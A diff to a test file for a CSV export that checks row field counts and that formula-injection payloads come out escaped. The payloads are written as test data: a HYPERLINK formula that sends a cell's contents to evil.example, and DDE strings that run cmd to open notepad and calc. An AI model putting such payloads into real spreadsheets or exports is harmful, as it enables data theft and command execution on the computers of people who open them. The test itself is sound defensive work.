@@ -36,7 +36,7 @@ describe('D5: CSV is RFC 4180, opens as UTF-8 in Excel and WPS, and never carrie
     expect(csvField(-3)).toBe('-3');
   });
 
-  it("an audit whose departments and ids carry the review's payloads gives a CSV every row of which has eight fields", async () => {
+  it("an audit whose departments and ids carry the review's payloads gives a CSV every row of which has the header's number of fields", async () => {
     const payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\r=1+1', 'a\nb,c"d', '+1'];
     const lines = sampleLines(payloads.length).map((line, i) => {
       const c = JSON.parse(line);
@@ -46,7 +46,9 @@ describe('D5: CSV is RFC 4180, opens as UTF-8 in Excel and WPS, and never carrie
     const csv = formatCsv(summary);
     expect(csv.startsWith('\uFEFFsection,key,')).toBe(true);
     const rows = readCsv(csv.slice(1));
-    expect(rows.every((row) => row.length === 8)).toBe(true);
+    // The header: section, key, severity, count, cases, violations, warnings, detail, then the 14 published figures.
+    expect(rows[0]).toHaveLength(22);
+    expect(rows.every((row) => row.length === 22)).toBe(true);
     const departments = rows.filter((row) => row[0] === 'department').map((row) => row[1]!);
     expect(departments.sort()).toEqual(payloads.map((p) => (/^[=+\-@\t\r]/.test(p) ? `'${p}` : p)).sort());
     for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
